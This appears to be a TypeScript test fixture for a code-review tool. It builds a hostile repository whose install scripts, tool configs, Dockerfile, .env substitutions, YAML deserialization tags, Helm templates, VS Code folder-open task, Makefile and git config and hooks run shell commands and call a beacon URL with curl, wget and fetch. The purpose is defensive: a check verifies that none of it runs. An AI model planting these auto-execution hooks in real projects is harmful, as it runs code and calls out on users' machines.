import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { RunResult } from './harness.js';
import { composeService, writeRepo, type Batch, type Entry, type HostileCase, type Problem } from './repo.js';

/**
 * A repository whose files do damage when executed, imported or required, when a shell or
 * git runs their hooks, or when a tool follows their URLs: each writes a marker file into
 * `outside/markers` and calls a beacon URL. After the run there must be no marker, no hit
 * on the beacon and nothing in the guard log but read-only git.
 */

/** The beacon the evil code calls; the test serves it on 127.0.0.1 and counts requests. */
export interface Beacon {
  url: string;
  hits: () => number;
}

function js(marker: string, beacon: string, label: string): string {
  return [
    `require('fs').writeFileSync(${JSON.stringify(path.join(marker, label))}, 'executed');`,
    `require('http').get(${JSON.stringify(`${beacon}/${label}`)});`,
    `require('child_process').execSync(${JSON.stringify(`touch ${path.join(marker, `${label}-shell`)}`)});`,
  ].join('\n');
}

function esm(marker: string, beacon: string, label: string): string {
  return [
    "import fs from 'node:fs';",
    `fs.writeFileSync(${JSON.stringify(path.join(marker, label))}, 'executed');`,
    `await fetch(${JSON.stringify(`${beacon}/${label}`)});`,
    'export default {};',
  ].join('\n');
}

function sh(marker: string, beacon: string, label: string): string {
  return `touch ${path.join(marker, label)}; curl -s ${beacon}/${label}; wget -q ${beacon}/${label}`;
}

export function evilBatch(beacon: Beacon): Batch {
  return {
    id: 'no-execution',
    build(root, outside) {
      const marker = path.join(outside, 'markers');
      const b = beacon.url;
      mkdirSync(marker, { recursive: true });
      const entries: Record<string, Entry> = {};
      const cases: HostileCase[] = [];
      const add = (name: string, file: string, text: string): void => {
        entries[file] = text;
        cases.push({ category: 'code execution and network', name, file });
      };
      add('package-json-scripts', 'package.json', JSON.stringify({ name: 'evil', main: 'evil.js', scripts: { preinstall: sh(marker, b, 'preinstall'), postinstall: sh(marker, b, 'postinstall'), prepare: sh(marker, b, 'prepare'), test: sh(marker, b, 'test') }, workspaces: ['packages/*'], dependencies: { express: '4', evil: `file:./evil-dep`, remote: `${b}/remote.tgz` } }));
      add('main-entry', 'evil.js', js(marker, b, 'main'));
      add('required-by-code', 'src/evil-helper.js', js(marker, b, 'helper'));
      add('code-that-requires', 'src/index.ts', `import './evil-helper.js';\nimport helper from './evil-esm.mjs';\nconst m = require('./evil-helper');\nimport(${JSON.stringify(`${b}/remote.mjs`)});\nexport default [helper, m];\n`);
      add('esm-module', 'src/evil-esm.mjs', esm(marker, b, 'esm'));
      add('archreview-config-js', 'archreview.config.js', js(marker, b, 'archreview-config'));
      add('archreview-plugin-folder', '.archreview/plugin.js', js(marker, b, 'archreview-plugin'));
      add('tool-configs', 'vite.config.ts', esm(marker, b, 'vite-config'));
      add('eslint-config', '.eslintrc.js', js(marker, b, 'eslintrc'));
      add('babel-config', 'babel.config.js', js(marker, b, 'babel'));
      add('jest-config', 'jest.config.cjs', js(marker, b, 'jest'));
      add('next-config', 'next.config.mjs', esm(marker, b, 'next'));
      add('tsconfig-plugins', 'tsconfig.json', JSON.stringify({ extends: './evil.js', compilerOptions: { plugins: [{ name: './evil.js' }], paths: { '@evil/*': ['./src/*'] } } }));
      add('dependency-in-node-modules', 'node_modules/evil/index.js', js(marker, b, 'node-modules'));
      entries['node_modules/evil/package.json'] = JSON.stringify({ name: 'evil', main: 'index.js', scripts: { install: sh(marker, b, 'dep-install') } });
      add('workspace-package', 'packages/p/index.js', js(marker, b, 'workspace'));
      entries['packages/p/package.json'] = JSON.stringify({ name: 'p', scripts: { postinstall: sh(marker, b, 'ws-postinstall') } });
      add('native-addon', 'src/addon.node', 'not really a shared object');
      add('compose-commands', 'compose.yaml', `${composeService('web', `    build: .\n    command: ["sh", "-c", "${sh(marker, b, 'compose-command')}"]\n    healthcheck:\n      test: ["CMD-SHELL", "${sh(marker, b, 'healthcheck')}"]\n    env_file: ./.env\n`)}x-script: \$(touch ${path.join(marker, 'compose-subst')})\n`);
      add('dotenv-substitutions', '.env', `A=$(touch ${path.join(marker, 'env-subst')})\nB=\`touch ${path.join(marker, 'env-backtick')}\`\nC=${b}/env\n`);
      add('dockerfile-run', 'Dockerfile', `FROM node:20\nRUN ${sh(marker, b, 'docker-run')}\nONBUILD RUN ${sh(marker, b, 'onbuild')}\n`);
      add('yaml-js-tags', 'k8s/tags.yaml', `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: tags\ndata:\n  f: !!js/function "function () { require('fs').writeFileSync('${path.join(marker, 'yaml-js')}', 'x') }"\n  r: !!js/regexp /x/\n  u: !!js/undefined ''\n  p: !!python/object/apply:os.system ["touch ${path.join(marker, 'yaml-python')}"]\n`);
      add('kustomize-exec-plugin', 'kz/kustomization.yaml', `resources:\n  - ${b}/remote-base.yaml\n  - github.com/evil/repo//base?ref=main\ngenerators:\n  - gen.yaml\ntransformers:\n  - gen.yaml\nhelmCharts:\n  - name: evil\n    repo: ${b}/charts\n`);
      entries['kz/gen.yaml'] = `apiVersion: example.com/v1\nkind: Evil\nmetadata:\n  name: gen\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: ./evil.sh\n`;
      add('kustomize-exec-script', 'kz/evil.sh', `#!/bin/sh\n${sh(marker, b, 'kustomize-exec')}\n`);
      add('helm-chart', 'chart/Chart.yaml', `apiVersion: v2\nname: evil\nversion: 1.0.0\ndependencies:\n  - name: remote\n    repository: ${b}/charts\n    version: 1.0.0\n`);
      entries['chart/templates/cm.yaml'] = `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Chart.Name }}\ndata:\n  a: {{ exec "sh" "-c" "touch ${path.join(marker, 'helm-exec')}" }}\n  b: {{ lookup "v1" "Secret" "default" "x" }}\n  c: {{ .Files.Get "../../evil.js" }}\n  d: {{ include "evil" (dict "cmd" "touch") }}\n`;
      add('helm-plugin', 'chart/plugins/evil/plugin.yaml', `name: evil\ncommand: "${sh(marker, b, 'helm-plugin')}"\nhooks:\n  install: "${sh(marker, b, 'helm-plugin-hook')}"\n`);
      add('nginx-lua', 'gw/nginx.conf', `http {\n  server {\n    location / {\n      content_by_lua_block { os.execute("touch ${path.join(marker, 'lua')}") }\n      proxy_pass ${b}/nginx;\n    }\n  }\n}\n`);
      entries['gw/compose.yaml'] = composeService('gw', '    volumes:\n      - ./nginx.conf:/etc/nginx/nginx.conf\n');
      add('envoy-lua', 'envoy/envoy.yaml', `static_resources:\n  listeners:\n    - name: l\n      filter_chains:\n        - filters:\n            - name: envoy.filters.http.lua\n              typed_config:\n                inline_code: 'os.execute("touch ${path.join(marker, 'envoy-lua')}")'\n  clusters:\n    - name: remote\n      load_assignment:\n        endpoints:\n          - lb_endpoints:\n              - endpoint:\n                  address:\n                    socket_address: { address: 127.0.0.1, port_value: 9 }\n`);
      add('prisma-generator', 'prisma/schema.prisma', `generator client {\n  provider = "${sh(marker, b, 'prisma')}"\n}\ndatasource db {\n  provider = "postgresql"\n  url      = "${b}/db"\n}\n`);
      add('direnv', '.envrc', `${sh(marker, b, 'direnv')}\n`);
      add('gitattributes-filter', '.gitattributes', '* filter=evil diff=evil\n');
      add('editorconfig-and-vscode', '.vscode/tasks.json', JSON.stringify({ version: '2.0.0', tasks: [{ label: 'x', type: 'shell', command: sh(marker, b, 'vscode'), runOptions: { runOn: 'folderOpen' } }] }));
      add('makefile', 'Makefile', `all:\n\t${sh(marker, b, 'make')}\n`);
      writeRepo(root, entries);
      cases.push(...gitRepo(root, marker, b));
      return cases;
    },
    options: {},
    check(run, _cases, _root, outside) {
      return executionProblems(run, path.join(outside, 'markers'), beacon);
    },
  };
}

/** Makes the folder a git repository whose configuration runs commands from every hook git has. */
function gitRepo(root: string, marker: string, beacon: string): HostileCase[] {
  try {
    execFileSync('git', ['--version'], { stdio: 'ignore' });
  } catch {
    return [];
  }
  const git = (...args: string[]): void => {
    execFileSync('git', ['-c', 'core.hooksPath=/dev/null', ...args], { cwd: root, stdio: 'ignore', env: { PATH: process.env.PATH ?? '', HOME: root, GIT_CONFIG_NOSYSTEM: '1' } });
  };
  git('init', '-q');
  git('-c', 'user.email=e@example.com', '-c', 'user.name=e', 'add', '-A');
  git('-c', 'user.email=e@example.com', '-c', 'user.name=e', 'commit', '-q', '-m', 'evil');
  const run = (label: string): string => `!sh -c 'touch ${path.join(marker, label)}; curl -s ${beacon}/${label}' #`;
  const config = [
    '[core]',
    `\tfsmonitor = "${run('fsmonitor').slice(1)}"`,
    `\tpager = ${run('pager').slice(1)}`,
    `\thooksPath = .githooks`,
    `\tsshCommand = ${run('ssh').slice(1)}`,
    `\taskPass = ${run('askpass').slice(1)}`,
    '[diff]',
    `\texternal = ${run('diff-external').slice(1)}`,
    '[diff "evil"]',
    `\ttextconv = ${run('textconv').slice(1)}`,
    '[filter "evil"]',
    `\tclean = ${run('filter-clean').slice(1)}`,
    `\tsmudge = ${run('filter-smudge').slice(1)}`,
    `\tprocess = ${run('filter-process').slice(1)}`,
    '[gpg]',
    `\tprogram = ${run('gpg').slice(1)}`,
    '[log]',
    '\tshowSignature = true',
    '[alias]',
    `\tlog = ${run('alias-log')}`,
  ].join('\n');
  writeFileSync(path.join(root, '.git', 'config'), `${config}\n`, { flag: 'a' });
  const hooks = ['post-checkout', 'post-merge', 'pre-commit', 'post-index-change', 'reference-transaction', 'fsmonitor-watchman', 'pre-auto-gc'];
  const entries: Record<string, Entry> = {};
  for (const hook of hooks) {
    entries[`.git/hooks/${hook}`] = { content: `#!/bin/sh\n${sh(marker, beacon, `hook-${hook}`)}\n`, mode: 0o755 };
    entries[`.githooks/${hook}`] = { content: `#!/bin/sh\n${sh(marker, beacon, `githooks-${hook}`)}\n`, mode: 0o755 };
  }
  writeRepo(root, entries);
  return [
    { category: 'code execution and network', name: 'git config: fsmonitor, pager, sshCommand, askPass, diff, filters, gpg, alias', file: '.git/config' },
    { category: 'code execution and network', name: 'git hooks (.git/hooks and core.hooksPath)', file: '.git/hooks' },
  ];
}

/** Markers written, beacon hits and guard events other than read-only git. */
export function executionProblems(_run: RunResult, markers: string, beacon: Beacon): Problem[] {
  const problems: Problem[] = [];
  const written = existsSync(markers) ? readdirSync(markers) : [];
  if (written.length) problems.push({ outcome: 'violation', detail: `code from the repository ran: ${written.join(', ')}` });
  if (beacon.hits()) problems.push({ outcome: 'violation', detail: `${beacon.hits()} network requests reached the beacon` });
  return problems;
}
